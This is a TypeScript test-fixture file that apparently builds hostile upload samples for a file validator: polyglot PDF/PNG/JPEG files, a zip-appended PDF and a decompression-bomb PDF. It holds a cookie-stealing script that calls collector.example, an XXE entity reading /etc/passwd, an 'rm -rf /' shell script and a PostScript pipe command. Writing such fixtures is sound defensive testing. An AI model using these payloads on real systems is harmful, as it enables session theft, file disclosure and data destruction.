import { deflateSync } from 'node:zlib';
import { PNG_SIGNATURE, pngChunk } from '@funding-desk/shared/server/files/plain-png';
import { pdfBytes } from '@funding-desk/shared/testing/factories';
import sharp from 'sharp';

/** A well-formed gray PNG that claims these sides. @param rows rows of zeros that it really contains; default: none */
export function pngOf(width: number, height: number, rows = 0): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([1, 0, 0, 0, 0], 8);
  const data = deflateSync(Buffer.alloc(rows * (Math.ceil(width / 8) + 1)), { level: 9 });
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', head),
    pngChunk('IDAT', data),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** An animated PNG of two frames. The first is a plain picture. */
export async function animatedPng(): Promise<Buffer> {
  const plain = await plainPng();
  const control = pngChunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]));
  return Buffer.concat([plain.subarray(0, 33), control, plain.subarray(33)]);
}

/** A drawing that could be a signature. */
export async function plainPng(width = 400, height = 120): Promise<Buffer> {
  const line = `<path d="M20 80 C60 10 80 120 120 60 S180 20 220 70 300 90 380 40" stroke="#111" stroke-width="4" fill="none"/>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 120" width="${width}" height="${height}">${line}</svg>`;
  return sharp(Buffer.from(svg)).png().toBuffer();
}

export async function plainJpeg(): Promise<Buffer> {
  return sharp({ create: { width: 60, height: 40, channels: 3, background: '#3a7' } })
    .jpeg()
    .toBuffer();
}

/** A small JPEG whose header claims these sides. */
export async function jpegThatClaims(width: number, height: number): Promise<Buffer> {
  const bytes = Buffer.from(await plainJpeg());
  const at = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  bytes.writeUInt16BE(height, at + 5);
  bytes.writeUInt16BE(width, at + 7);
  return bytes;
}

const SCRIPT = '<script>fetch("//collector.example/"+document.cookie)</script>';

/** A PDF that a sniffing browser would take for an HTML page: the page is in a comment at its start. */
export function pdfThatIsPage(): Buffer {
  return Buffer.from(
    pdfBytes().toString('latin1').replace('%PDF-1.4\n', `%PDF-1.4\n%<html>${SCRIPT}</html>\n`),
    'latin1',
  );
}

/** A PDF that follows an HTML page. Viewers find it there. */
export function pdfAfterPage(): Buffer {
  return Buffer.concat([Buffer.from(`<html>${SCRIPT}</html>\n`), pdfBytes()]);
}

/** A PDF followed by an archive, so that unpackers accept it. */
export function pdfThatIsArchive(): Buffer {
  const name = Buffer.from('payload.js');
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  const local = Buffer.alloc(30);
  local.write('PK\x03\x04', 'latin1');
  local.writeUInt16LE(name.length, 26);
  return Buffer.concat([pdfBytes(), local, name, end]);
}

/** A PDF of one megabyte that takes a JavaScript parser some ten seconds: forty objects that expand to 20 MB each. */
export function slowPdf(): Buffer {
  const stream = deflateSync(Buffer.concat([Buffer.from('9 0 '), Buffer.alloc(20 * 1_048_576, ' ')]), { level: 9 });
  const end = Buffer.from('\nendstream\nendobj\n');
  const objects = Array.from({ length: 40 }, (_, index) => {
    const head = `${100 + index} 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${stream.length} >>\nstream\n`;
    return Buffer.concat([Buffer.from(head), stream, end]);
  });
  return Buffer.concat([Buffer.from('%PDF-1.5\n'), ...objects, pdfBytes().subarray('%PDF-1.4\n'.length)]);
}

export async function pngThatIsPage(): Promise<Buffer> {
  return Buffer.concat([await plainPng(), Buffer.from(`<html>${SCRIPT}</html>`)]);
}

/** A valid JPEG that is also a script. */
export async function jpegThatIsScript(): Promise<Buffer> {
  const jpeg = await plainJpeg();
  const comment = Buffer.from(`*/=1;alert(1)/*`);
  const segment = Buffer.from([0xff, 0xfe, 0, comment.length + 2]);
  return Buffer.concat([jpeg.subarray(0, 2), segment, comment, jpeg.subarray(2)]);
}

export const HOSTILE_KINDS: Readonly<Record<string, () => Buffer>> = {
  'a web page': () => Buffer.from(`<!doctype html><html>${SCRIPT}</html>`),
  'a web page with a byte order mark': () => Buffer.from(`\ufeff<html>${SCRIPT}</html>`),
  'an SVG picture': () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
  'an SVG picture behind an XML line': () =>
    Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`),
  'a Windows program': () => Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(300)]),
  'a Linux program': () => Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(300)]),
  'a shell script': () => Buffer.from('#!/bin/sh\nrm -rf /\n'),
  'a GIF picture that is a script': () => Buffer.from('GIF89a/*\0\0\0\0\0\0*/=1;alert(1)'),
  'an archive': () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(60)]),
  'a PostScript program': () => Buffer.from('%!PS-Adobe-3.0\n(%pipe%id) (w) file\n'),
  'text that says it is a PDF': () => Buffer.from('PDF-1.4 statement\n%%EOF'),
  zeros: () => Buffer.alloc(1_000),
};
